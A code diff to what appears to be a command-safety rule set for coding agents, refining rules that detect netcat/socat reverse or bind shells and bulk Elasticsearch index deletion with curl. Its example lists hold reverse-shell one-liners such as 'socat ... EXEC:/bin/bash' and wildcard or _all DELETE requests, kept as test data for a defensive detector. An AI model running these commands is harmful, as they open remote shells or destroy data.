@@ -433,8 +433,11 @@ RULES = [
         "reason": "netcat/socat executes a program for a network peer: a reverse or bind shell",
         "safer": "Nothing legitimate in a coding task needs this.",
         "recovery": "Treat the machine as compromised: disconnect it, rotate credentials, rebuild.",
+        # a program that prints a fixed reply (`nc -l -c 'echo ok'`, a health-check stub) runs nothing
+        # the peer sends
         "match": {
             "cmd": ("nc", "ncat", "netcat", "socat", "cryptcat"),
+            "fixed_reply": False,
             "words_any": (
                 "-e",
                 "-c",
@@ -458,7 +461,8 @@ RULES = [
                 "nc -lvnp 31337 -e /bin/bash",
                 "socat TCP:203.0.113.12:4443 EXEC:/bin/bash",
             ],
-            "no_match": ["nc -zv localhost 5432", "socat TCP-LISTEN:8080 TCP:localhost:80"],
+            "no_match": ["nc -zv localhost 5432", "socat TCP-LISTEN:8080 TCP:localhost:80",
+                         "nc -l -p 8080 -c 'echo hello'", "socat TCP-LISTEN:8080,fork SYSTEM:'printf ok'"],
         },
     },
     {
@@ -818,17 +822,23 @@ RULES = [
         "recovery": "Restore from the service's snapshots or backups.",
         "match": {"cmd": ("curl", "http", "https", "xh", "httpie"),
                   "words_any": ("-X=DELETE", "--request=DELETE", "delete", "DELETE"),
-                  "words_also": ("*://*[*]*", "*://*/_all*", "*://*,*"),
+                  # curl takes `localhost:9200/logs-*` without a scheme as http: HOST:PORT/PATH is a URL too
+                  "words_also": ("*://*[*]*", "*://*/_all*", "*://*,*", "*:[0-9]*/*[*]*", "*:[0-9]*/_all*",
+                                 "*:[0-9]*/*,*"),
                   # indices named for tests on this machine are what the test run creates again
                   "words_none": ("*://localhost[:/]*/test[-_.]*", "*://127.0.0.1[:/]*/test[-_.]*",
-                                 "*://localhost[:/]*/*[-_]test[-_]*", "*://127.0.0.1[:/]*/*[-_]test[-_]*")},
+                                 "*://localhost[:/]*/*[-_]test[-_]*", "*://127.0.0.1[:/]*/*[-_]test[-_]*",
+                                 "localhost[:/]*/test[-_.]*", "127.0.0.1[:/]*/test[-_.]*",
+                                 "localhost[:/]*/*[-_]test[-_]*", "127.0.0.1[:/]*/*[-_]test[-_]*")},
         "examples": {"match": ["curl -X DELETE 'http://localhost:9200/logs-2024.01.*'",
+                               "curl -X DELETE 'localhost:9200/logs-2024.05.*'",
                                "curl -XDELETE http://127.0.0.1:9200/_all",
                                "curl -X DELETE 'https://es.prod.acme.io:9200/test-products-*'"],
                      "no_match": ["curl -X DELETE http://localhost:9200/logs-2024.01.03",
                                   "curl 'http://localhost:9200/logs-*/_count'",
                                   "curl -s -X DELETE 'http://localhost:9200/test-products-*'",
-                                  "curl -X DELETE 'http://127.0.0.1:9200/shop_test_*'"]},
+                                  "curl -X DELETE 'http://127.0.0.1:9200/shop_test_*'",
+                                  "curl -X DELETE 'localhost:9200/test-orders-*'"]},
     },
     {
         "id": "net.process-substitution-untrusted",
